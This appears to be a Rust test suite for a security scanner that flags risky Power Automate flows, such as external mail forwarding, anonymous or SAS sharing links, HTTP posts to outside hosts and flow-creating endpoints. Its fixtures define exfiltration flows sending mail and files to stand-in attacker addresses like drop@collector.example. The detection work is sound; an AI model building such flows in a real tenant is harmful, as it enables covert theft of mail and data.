//! The recipient and host judgements every Power Automate rule relies on.

use super::{Whose, host_allowed, recipient, uri_host, within};

#[test]
fn subdomains_are_internal_and_look_alikes_are_not() {
    let d = vec!["contoso.com".to_string()];
    assert_eq!(recipient("noc@contoso.com", &d), Whose::Internal);
    assert_eq!(recipient("ap@eu.contoso.com", &d), Whose::Internal);
    assert_eq!(recipient("Ops Team <ops@CONTOSO.COM>", &d), Whose::Internal);
    assert_eq!(
        recipient("archive@contoso.com.evil.io", &d),
        Whose::External("contoso.com.evil.io".into())
    );
    assert_eq!(
        recipient("x@notcontoso.com", &d),
        Whose::External("notcontoso.com".into())
    );
    assert_eq!(
        recipient("@triggerOutputs()?['body/from']", &d),
        Whose::Dynamic
    );
    assert_eq!(recipient("@{variables('to')}", &d), Whose::Dynamic);
    assert!(within("a.b.contoso.com", "contoso.com"));
    assert!(!within("contoso.com.evil.io", "contoso.com"));
}

#[test]
fn hosts_are_read_from_literal_uris_only() {
    assert_eq!(
        uri_host("https://user@hooks.example.net:8443/in?sig=x").as_deref(),
        Some("hooks.example.net")
    );
    assert_eq!(uri_host("@{variables('endpoint')}"), None);
    assert_eq!(uri_host("https://@{variables('host')}/x"), None);
    assert_eq!(
        uri_host("https://corp.example:x@collector.evil.example/c").as_deref(),
        Some("collector.evil.example"),
        "user-info is not the host"
    );
    assert_eq!(
        uri_host("https://api.vendor.example/items/@{triggerBody()?['id']}").as_deref(),
        Some("api.vendor.example"),
        "an expression in the path leaves the host known"
    );
    let d = vec!["contoso.com".to_string()];
    assert!(host_allowed("graph.microsoft.com", &d, &[]));
    assert!(host_allowed("contoso.sharepoint.com", &d, &[]));
    assert!(host_allowed("contoso-my.sharepoint.com", &d, &[]));
    assert!(
        !host_allowed("fabrikam.sharepoint.com", &d, &[]),
        "another tenant's SharePoint belongs to that tenant"
    );
    assert!(
        host_allowed("fabrikam.sharepoint.com", &[], &[]),
        "tenant unknown"
    );
    assert!(host_allowed("login.microsoftonline.com", &d, &[]));
    assert!(host_allowed("api.contoso.com", &d, &[]));
    assert!(!host_allowed("graph.microsoft.com.evil.io", &d, &[]));
    assert!(host_allowed(
        "hooks.slack.com",
        &d,
        &["hooks.slack.com".to_string()]
    ));
}

// --- Detections (Purview): PA-004, PA-006 ----------------------------------------------------------

mod detections {
    use chrono::{DateTime, Duration, Utc};
    use fnscope_snapshot::{
        AuditEvent, LogWindow, Provider, ScanMode, ScanSource, Snapshot, Target, Workload,
    };
    use serde_json::json;

    use crate::{Finding, Settings, catalogue, evaluate};

    const ENV: &str = "Default-72f988bf-0000-4000-8000-2d7cd011db47";

    fn at(day: i64) -> DateTime<Utc> {
        DateTime::parse_from_rfc3339("2026-11-20T10:00:00Z")
            .unwrap()
            .with_timezone(&Utc)
            + Duration::days(day)
    }

    /// A flow whose only step forwards every new mail to `to`, as the importer records it.
    fn forwarding_flow(name: &str, to: &str) -> Workload {
        serde_json::from_value(json!({
            "id": format!("/providers/Microsoft.Flow/flows/{name}"),
            "provider": "power-automate",
            "kind": fnscope_snapshot::kinds::POWER_AUTOMATE_FLOW,
            "name": name,
            "target": ENV,
            "identities": ["maker@contoso.com"],
            "exposure": {"public": false},
            "details": {
                "type": "flow",
                "environment": ENV,
                "trigger": {
                    "name": "When_a_new_email_arrives_(V3)", "kind": "OpenApiConnectionNotification",
                    "connector": "shared_office365", "operation": "OnNewEmailV3", "class": "mail",
                    "automatic": true, "filters": {"folderPath": "Inbox"}
                },
                "steps": [{
                    "path": "Forward_an_email_(V2)", "kind": "OpenApiConnection",
                    "connector": "shared_office365", "operation": "ForwardEmail_V2",
                    "recipients": [to], "carries": ["trigger"]
                }],
                "connections": [],
                "owners": [], "owners_read": true, "solution": false
            }
        }))
        .unwrap()
    }

    fn write(maker: &str, flow: &str, day: i64) -> AuditEvent {
        AuditEvent {
            provider: Provider::PowerAutomate,
            target: ENV.into(),
            id: format!("{flow}-{day}"),
            time: at(day),
            actor: maker.into(),
            action: "CreateFlow".into(),
            resource: Some(flow.into()),
            source_ip: None,
            attrs: Default::default(),
            source: format!("flow-activity.json#{day}"),
        }
    }

    fn estate(flows: Vec<Workload>, events: Vec<AuditEvent>, log_from: i64) -> Snapshot {
        let mut s = Snapshot::new(
            "test",
            ScanSource {
                mode: ScanMode::Offline,
                location: None,
            },
        );
        s.targets.push(Target {
            provider: Provider::PowerAutomate,
            id: ENV.into(),
            name: None,
            regions: Vec::new(),
            organization: None,
            ancestors: Vec::new(),
        });
        s.workloads = flows;
        s.log_windows.push(LogWindow {
            provider: Provider::PowerAutomate,
            target: ENV.into(),
            log: "purview".into(),
            from: at(log_from),
            to: at(1),
            read: events.len() as u64,
            failed: 0,
            kept: events.len() as u64,
            source: "flow-activity.json".into(),
        });
        s.events = events;
        s
    }

    fn run(s: &Snapshot, rule: &str, allow: &[&str]) -> (Vec<Finding>, Vec<String>) {
        let rules: Vec<_> = catalogue()
            .into_iter()
            .filter(|r| r.meta().id == rule)
            .collect();
        let settings = Settings {
            tenant_domains: vec!["contoso.com".into()],
            detect_allow: allow.iter().map(|a| a.to_string()).collect(),
            ..Settings::default()
        };
        let ev = evaluate(s, &rules, &settings);
        (
            ev.findings,
            ev.not_evaluated.into_iter().map(|n| n.reason).collect(),
        )
    }

    fn severities(f: &[Finding]) -> Vec<(String, String)> {
        f.iter()
            .map(|f| (f.subject.name.clone(), f.severity.as_str().to_string()))
            .collect()
    }

    #[test]
    fn pa_006_reports_each_write_of_a_risky_flow_and_pa_004_the_first_time_maker() {
        let out = forwarding_flow("fwd-out", "collector@mail-archive.example");
        let internal = forwarding_flow("fwd-in", "ap@eu.contoso.com");
        let s = estate(
            vec![out.clone(), internal.clone()],
            vec![
                write("newhire@contoso.com", "fwd-out", 0),
                write("ops@contoso.com", "fwd-in", 0),
            ],
            -100,
        );
        // The unfiltered forward out is critical (PA-001), so its write is high; the internal one is
        // no finding, so neither is its write.
        let (f, _) = run(&s, "T1648-PA-006", &[]);
        assert_eq!(
            severities(&f),
            [("newhire@contoso.com".into(), "high".into())]
        );
        let (f, _) = run(&s, "T1648-PA-004", &[]);
        assert_eq!(
            severities(&f),
            [("newhire@contoso.com".into(), "high".into())]
        );
        // A maker who wrote another (harmless) flow 16 days before is no first-timer (PA-004), but
        // the write of the risky one is still seen (PA-006).
        let s = estate(
            vec![out.clone(), internal.clone()],
            vec![
                write("newhire@contoso.com", "fwd-in", -16),
                write("newhire@contoso.com", "fwd-out", 0),
            ],
            -100,
        );
        assert!(run(&s, "T1648-PA-004", &[]).0.is_empty());
        assert_eq!(run(&s, "T1648-PA-006", &[]).0.len(), 1);
        // A log that does not reach 90 days back makes "first time" conditional.
        let s = estate(
            vec![out.clone()],
            vec![write("newhire@contoso.com", "fwd-out", 0)],
            -10,
        );
        assert!(run(&s, "T1648-PA-004", &[]).0[0].conditional);
        // An allow-listed automation account's write stays visible, as low.
        let s = estate(
            vec![out],
            vec![write("svc-flows@contoso.com", "fwd-out", 0)],
            -100,
        );
        assert_eq!(
            severities(&run(&s, "T1648-PA-006", &["svc-flows@contoso.com"]).0),
            [("svc-flows@contoso.com".into(), "low".into())]
        );
        // A write to a flow the inventory does not hold: its definition is unknown, and said.
        let s = estate(
            vec![internal],
            vec![write("x@contoso.com", "gone-flow", 0)],
            -100,
        );
        let (f, ne) = run(&s, "T1648-PA-006", &[]);
        assert!(f.is_empty());
        assert!(ne.iter().any(|r| r.contains("gone-flow")), "{ne:?}");
    }

    /// A flow with `trigger` and `steps` (JSON as the importer records them), `state` as listed.
    fn flow(
        name: &str,
        state: Option<&str>,
        trigger: serde_json::Value,
        steps: serde_json::Value,
    ) -> Workload {
        let mut w = forwarding_flow(name, "x@contoso.com");
        let mut v = serde_json::to_value(&w).unwrap();
        v["details"]["trigger"] = trigger;
        v["details"]["steps"] = steps;
        if let Some(st) = state {
            v["state"] = json!(st);
        }
        w = serde_json::from_value(v).unwrap();
        w
    }

    fn mail_trigger(filters: serde_json::Value) -> serde_json::Value {
        json!({"name": "When_a_new_email_arrives_(V3)", "kind": "OpenApiConnectionNotification",
               "connector": "shared_office365", "operation": "OnNewEmailV3", "class": "mail",
               "automatic": true, "filters": filters})
    }

    fn forward_to(to: &str) -> serde_json::Value {
        json!([{"path": "Forward_an_email_(V2)", "kind": "OpenApiConnection", "connector": "shared_office365",
                "operation": "ForwardEmail_V2", "recipients": [to], "carries": ["trigger"]}])
    }

    fn posture(flows: Vec<Workload>, rule: &str) -> Vec<(String, String)> {
        let s = estate(flows, Vec::new(), -100);
        let mut v: Vec<(String, String)> = run(&s, rule, &[])
            .0
            .iter()
            .map(|f| (f.subject.name.clone(), f.severity.as_str().to_string()))
            .collect();
        v.sort();
        v
    }

    fn p(a: &str, b: &str) -> (String, String) {
        (a.into(), b.into())
    }

    #[test]
    fn pa_001_forwards_out_graded_by_filter_state_and_recipient() {
        let inbox = json!({"folderPath": "Inbox"});
        let flows = vec![
            flow(
                "unfiltered",
                None,
                mail_trigger(inbox.clone()),
                forward_to("c@mail-archive.example"),
            ),
            flow(
                "filtered",
                None,
                mail_trigger(json!({"folderPath": "Inbox", "subjectFilter": "Invoice"})),
                forward_to("c@mail-archive.example"),
            ),
            flow(
                "stopped",
                Some("Stopped"),
                mail_trigger(inbox.clone()),
                forward_to("c@mail-archive.example"),
            ),
            flow(
                "dynamic",
                None,
                mail_trigger(inbox.clone()),
                forward_to("@triggerOutputs()?['body/from']"),
            ),
            flow(
                "internal",
                None,
                mail_trigger(inbox.clone()),
                forward_to("ap@eu.contoso.com"),
            ),
            flow(
                "look-alike",
                None,
                mail_trigger(inbox),
                forward_to("ap@contoso.com.evil.io"),
            ),
        ];
        assert_eq!(
            posture(flows, "T1648-PA-001"),
            [
                p("dynamic", "medium"),
                p("filtered", "high"),
                p("look-alike", "critical"),
                p("stopped", "high"),
                p("unfiltered", "critical"),
            ]
        );
    }

    #[test]
    fn pa_002_and_003_anonymous_links_and_outside_http() {
        let new_file = json!({"name": "When_a_file_is_created", "kind": "OpenApiConnection",
            "connector": "shared_sharepointonline", "operation": "GetOnNewFileItems", "class": "file", "automatic": true});
        let link = |scope: &str| {
            json!({"path": "Create_sharing_link", "kind": "OpenApiConnection",
            "connector": "shared_sharepointonline", "operation": "CreateSharingLink", "link_scope": scope, "carries": ["trigger"]})
        };
        let sent = json!({"path": "Send_an_email_(V2)", "kind": "OpenApiConnection", "connector": "shared_office365",
            "operation": "SendEmailV2", "recipients": ["drop@outside.example"], "carries": ["trigger"],
            "references": ["Create_sharing_link"]});
        let flows = vec![
            flow(
                "anon-sent",
                None,
                new_file.clone(),
                json!([link("anonymous"), sent]),
            ),
            flow(
                "anon-kept",
                None,
                new_file.clone(),
                json!([link("anonymous")]),
            ),
            flow(
                "org-link",
                None,
                new_file.clone(),
                json!([link("organization")]),
            ),
        ];
        assert_eq!(
            posture(flows, "T1648-PA-002"),
            [p("anon-kept", "high"), p("anon-sent", "critical")]
        );
        let http = |uri: &str| json!([{"path": "HTTP", "kind": "Http", "uri": uri, "carries": ["trigger"]}]);
        let flows = vec![
            flow(
                "out",
                None,
                new_file.clone(),
                http("https://collector.example.net/in"),
            ),
            flow(
                "graph",
                None,
                new_file.clone(),
                http("https://graph.microsoft.com/v1.0/me"),
            ),
            flow(
                "own-sharepoint",
                None,
                new_file,
                http("https://contoso.sharepoint.com/sites/x"),
            ),
        ];
        assert_eq!(posture(flows, "T1648-PA-003"), [p("out", "critical")]);
    }

    #[test]
    fn pa_005_makers_without_flows_in_a_log_that_covers_the_days() {
        use fnscope_snapshot::{Binding, Coverage, CoverageStatus, Usage};
        let maker = |id: &str| Binding {
            provider: Provider::PowerAutomate,
            scope: ENV.into(),
            principal: id.into(),
            grant: "Environment Maker".into(),
            kind: fnscope_snapshot::kinds::POWER_PLATFORM_MAKER,
            order: None,
            condition: None,
            principal_type: None,
            created: None,
            principal_name: None,
        };
        let window = |days: i64| Usage {
            provider: Provider::PowerAutomate,
            principal: format!("environment:{ENV}"),
            service: "purview".into(),
            action: None,
            last_used: None,
            as_of: "2026-11-27T00:00:00Z".into(),
            source: format!(
                "purview {ENV} window {}..2026-11-27T00:00:00Z",
                (at(7) - Duration::days(days)).to_rfc3339()
            ),
        };
        let setup = |days: i64| {
            let mut s = estate(vec![], vec![], -100);
            s.bindings = vec![maker("idle@contoso.com"), maker("busy@contoso.com")];
            s.usage = vec![
                window(days),
                Usage {
                    provider: Provider::PowerAutomate,
                    principal: "busy@contoso.com".into(),
                    service: "flow".into(),
                    action: Some("CreateFlow".into()),
                    last_used: None,
                    as_of: "2026-11-27T00:00:00Z".into(),
                    source: "purview".into(),
                },
            ];
            s.coverage.push(Coverage {
                provider: Provider::PowerAutomate,
                target: ENV.into(),
                region: None,
                api: "bap:environment.roleAssignments".into(),
                status: CoverageStatus::Complete,
                detail: String::new(),
            });
            s
        };
        let (f, _) = run(&setup(120), "T1648-PA-005", &[]);
        assert_eq!(severities(&f), [("idle@contoso.com".into(), "low".into())]);
        // A log shorter than `unused_days`: not evaluated, never "unused".
        let (f, ne) = run(&setup(30), "T1648-PA-005", &[]);
        assert!(f.is_empty());
        assert!(
            ne.iter().any(|r| r.contains("no flow audit log covering")),
            "{ne:?}"
        );
    }

    #[test]
    fn pa_001_every_mail_connector_and_no_silent_pass_without_tenant_domains() {
        let gmail_trigger = |filters: serde_json::Value| {
            json!({"name": "When_a_new_email_arrives", "kind": "OpenApiConnectionNotification",
                   "connector": "shared_gmail", "operation": "OnNewEmail", "class": "mail",
                   "automatic": true, "filters": filters})
        };
        let send = |connector: &str, op: &str, to: &str| {
            json!([{"path": "Send", "kind": "OpenApiConnection", "connector": connector,
                    "operation": op, "recipients": [to], "carries": ["trigger"]}])
        };
        let flows = vec![
            // The published backdoor: every Gmail message sent on to an outside address.
            flow(
                "gmail-out",
                None,
                gmail_trigger(json!({})),
                send("shared_gmail", "SendEmailV2", "drop@collector.example"),
            ),
            flow(
                "gmail-stopped",
                Some("Stopped"),
                gmail_trigger(json!({})),
                send("shared_gmail", "SendEmailV2", "drop@collector.example"),
            ),
            // An Office 365 mailbox relayed through SMTP, SendGrid and the Mail connector.
            flow(
                "smtp",
                None,
                mail_trigger(json!({"folderPath": "Inbox"})),
                send("shared_smtp", "SendEmailV3", "x@relay.example"),
            ),
            flow(
                "sendgrid",
                None,
                mail_trigger(json!({"folderPath": "Inbox"})),
                send("shared_sendgrid", "SendEmailV4", "x@relay.example"),
            ),
            flow(
                "mail",
                None,
                mail_trigger(json!({"folderPath": "Inbox"})),
                send(
                    "shared_sendmail",
                    "SendEmailNotification",
                    "x@relay.example",
                ),
            ),
            // Outlook.com's trigger, sent inside the tenant: nothing.
            flow(
                "outlook-in",
                None,
                json!({"name": "When_a_new_email_arrives", "kind": "OpenApiConnectionNotification",
                "connector": "shared_outlook", "operation": "OnNewEmailV2", "class": "mail", "automatic": true}),
                send("shared_outlook", "SendEmailV2", "ap@contoso.com"),
            ),
        ];
        assert_eq!(
            posture(flows.clone(), "T1648-PA-001"),
            [
                p("gmail-out", "critical"),
                p("gmail-stopped", "high"),
                p("mail", "critical"),
                p("sendgrid", "critical"),
                p("smtp", "critical"),
            ]
        );
        // Without tenant domains (none configured, no connection owner to infer them from): not
        // evaluated, with the reason, for each sending step; never a pass.
        let mut s = estate(flows, Vec::new(), -100);
        for w in &mut s.workloads {
            if let fnscope_snapshot::WorkloadDetails::Flow(d) = &mut w.details {
                d.connections.clear();
            }
        }
        let rules: Vec<_> = catalogue()
            .into_iter()
            .filter(|r| r.meta().id == "T1648-PA-001")
            .collect();
        let ev = evaluate(&s, &rules, &Settings::default());
        assert!(ev.findings.is_empty());
        let reasons: Vec<String> = ev.not_evaluated.into_iter().map(|n| n.reason).collect();
        assert_eq!(
            reasons
                .iter()
                .filter(|r| r.contains("tenant domains unknown"))
                .count(),
            6,
            "{reasons:?}"
        );
        assert!(
            reasons.iter().any(|r| r.starts_with("gmail-out:")),
            "{reasons:?}"
        );
    }

    #[test]
    fn pa_002_sas_links_handed_back_to_an_http_caller() {
        let http =
            json!({"name": "manual", "kind": "Request", "class": "http", "automatic": false});
        let sas = json!({"path": "Create_SAS_URI_by_path", "kind": "OpenApiConnection",
            "connector": "shared_azureblob", "operation": "CreateShareLinkByPath_V2", "carries": []});
        let respond = json!({"path": "Response", "kind": "Response", "carries": [],
            "references": ["Create_SAS_URI_by_path"]});
        let list = json!({"path": "List_blobs", "kind": "OpenApiConnection",
            "connector": "shared_azureblob", "operation": "ListFolderV4", "carries": []});
        let flows = vec![
            // Mints a SAS link for a blob and returns it to whoever calls the flow's URL.
            flow("sas-out", None, http.clone(), json!([sas.clone(), respond])),
            // Mints one and keeps it.
            flow("sas-kept", None, http.clone(), json!([sas])),
            // Lists blobs: no link.
            flow("list-only", None, http, json!([list])),
        ];
        assert_eq!(
            posture(flows, "T1648-PA-002"),
            [p("sas-kept", "high"), p("sas-out", "critical")]
        );
    }

    #[test]
    fn pa_007_http_triggered_flows_graded_by_what_they_do_with_the_request() {
        let http =
            json!({"name": "manual", "kind": "Request", "class": "http", "automatic": false});
        let public = |mut w: Workload| {
            w.exposure.public = true;
            w.exposure.notes.push("HTTP request trigger".into());
            w
        };
        let flows = vec![
            // Runs what the caller sends: an HTTP call built from the request.
            public(flow(
                "relay",
                None,
                http.clone(),
                json!([
                    {"path": "HTTP", "kind": "Http", "uri": "https://x.example/", "carries": ["trigger"]}
                ]),
            )),
            // Does something, but not with the request.
            public(flow(
                "cron-like",
                None,
                http.clone(),
                json!([
                    {"path": "List_rows", "kind": "OpenApiConnection", "connector": "shared_excelonlinebusiness",
                     "operation": "GetItems", "carries": []}
                ]),
            )),
            // Only answers.
            public(flow(
                "ping",
                None,
                http.clone(),
                json!([
                    {"path": "Response", "kind": "Response", "carries": []}
                ]),
            )),
        ];
        assert_eq!(
            posture(flows, "T1648-PA-007"),
            [
                p("anyone", "high"),
                p("anyone", "low"),
                p("anyone", "medium")
            ]
        );
    }

    #[test]
    fn pa_008_flows_that_plant_or_run_automation_graded_by_who_starts_them() {
        let http =
            json!({"name": "manual", "kind": "Request", "class": "http", "automatic": false});
        let schedule = json!({"name": "Recurrence", "kind": "Recurrence", "class": "recurrence",
            "automatic": true});
        let public = |mut w: Workload| {
            w.exposure.public = true;
            w
        };
        let create = |carries: &[&str]| {
            json!({"path": "Scope/Create_Flow", "kind": "OpenApiConnection",
                "connector": "shared_flowmanagement", "operation": "CreateFlow", "carries": carries})
        };
        let desktop = json!({"path": "Run_RPA", "kind": "OpenApiConnection", "connector": "shared_uiflow",
            "operation": "RunUIFlow_V2", "acts_on": "desktop flow d37da402 (unattended)", "carries": []});
        let row = |table: &str| {
            json!({"path": "Add_row", "kind": "OpenApiConnection",
                "connector": "shared_commondataserviceforapps", "operation": "CreateRecord",
                "acts_on": format!("table {table}"), "carries": []})
        };
        let read = json!({"path": "Get_Flow", "kind": "OpenApiConnection",
            "connector": "shared_flowmanagement", "operation": "GetFlow", "carries": []});
        let flows = vec![
            // A factory: anyone with the URL sends the definition of a new flow.
            public(flow(
                "factory",
                None,
                http.clone(),
                json!([create(&["trigger"])]),
            )),
            // The same, turned off.
            public(flow(
                "factory-off",
                Some("Stopped"),
                http.clone(),
                json!([create(&["trigger"])]),
            )),
            // Runs a desktop flow whenever anyone calls it.
            public(flow("rpa", None, http.clone(), json!([desktop]))),
            // A scheduled flow writing a flow as a Dataverse row (admin automation).
            flow("nightly", None, schedule.clone(), json!([row("workflows")])),
            // Starts a runbook job whenever anyone calls it.
            public(flow(
                "runbook",
                None,
                json!({"name": "manual", "kind": "Request", "class": "http", "automatic": false}),
                json!([{"path": "Create_job", "kind": "OpenApiConnection", "connector": "shared_azureautomation",
                    "operation": "CreateJob", "carries": ["trigger"]}]),
            )),
            // Dataverse rows of another table, and reading flows: neither plants nor runs anything.
            flow("accounts", None, schedule.clone(), json!([row("accounts")])),
            public(flow("inventory", None, http, json!([read]))),
        ];
        assert_eq!(
            posture(flows, "T1648-PA-008"),
            [
                p("factory", "critical"),
                p("factory-off", "high"),
                p("nightly", "medium"),
                p("rpa", "high"),
                p("runbook", "critical"),
            ]
        );
    }

    #[test]
    fn pa_001_mail_sent_or_forwarded_through_microsoft_graph_over_http() {
        let graph = |path: &str, uri: &str, to: &str| json!([{"path": path, "kind": "Http", "uri": uri, "recipients": [to], "carries": ["trigger"]}]);
        let flows = vec![
            // Every new mail forwarded outside through Graph's forward endpoint.
            flow(
                "graph-forward",
                None,
                mail_trigger(json!({})),
                graph(
                    "HTTP",
                    "https://graph.microsoft.com/v1.0/me/messages/@{triggerOutputs()?['body/id']}/forward",
                    "drop@collector.example",
                ),
            ),
            // An inbox rule that forwards outside, set through Graph.
            flow(
                "graph-rule",
                None,
                mail_trigger(json!({})),
                graph(
                    "Rule",
                    "https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules",
                    "drop@collector.example",
                ),
            ),
            // Reading mail through Graph sends nothing.
            flow(
                "graph-read",
                None,
                mail_trigger(json!({})),
                graph(
                    "Read",
                    "https://graph.microsoft.com/v1.0/me/messages",
                    "drop@collector.example",
                ),
            ),
        ];
        assert_eq!(
            posture(flows, "T1648-PA-001"),
            [p("graph-forward", "critical"), p("graph-rule", "critical")]
        );
    }

    #[test]
    fn pa_008_names_the_machine_group_a_desktop_flow_runs_on_or_says_it_is_unknown() {
        let http =
            json!({"name": "manual", "kind": "Request", "class": "http", "automatic": false});
        let desktop = json!([{"path": "Run_RPA", "kind": "OpenApiConnection", "connector": "shared_uiflow",
            "operation": "RunUIFlow_V2", "acts_on": "desktop flow d37da402 (unattended)", "carries": []}]);
        let mut known = flow("known", None, http.clone(), desktop.clone());
        known.exposure.public = true;
        let mut v = serde_json::to_value(&known).unwrap();
        v["details"]["connections"] = json!([{"key": "shared_uiflow", "connector": "shared_uiflow",
            "connection": "shared-uiflow-1", "owner": "rpa@contoso.com", "target": "group-7"}]);
        known = serde_json::from_value(v).unwrap();
        let mut unknown = flow("unknown", None, http, desktop);
        unknown.exposure.public = true;
        let s = estate(vec![known, unknown], Vec::new(), -100);
        let found = run(&s, "T1648-PA-008", &[]).0;
        let detail = |flow: &str| {
            found
                .iter()
                .find(|f| f.subject.name == flow)
                .map(|f| {
                    f.evidence
                        .iter()
                        .map(|e| e.detail.clone())
                        .collect::<Vec<_>>()
                        .join(" | ")
                })
                .unwrap()
        };
        assert!(
            detail("known").contains("on machine or machine group group-7"),
            "{}",
            detail("known")
        );
        assert!(
            detail("unknown").contains("machine or machine group is not known"),
            "{}",
            detail("unknown")
        );
    }
}
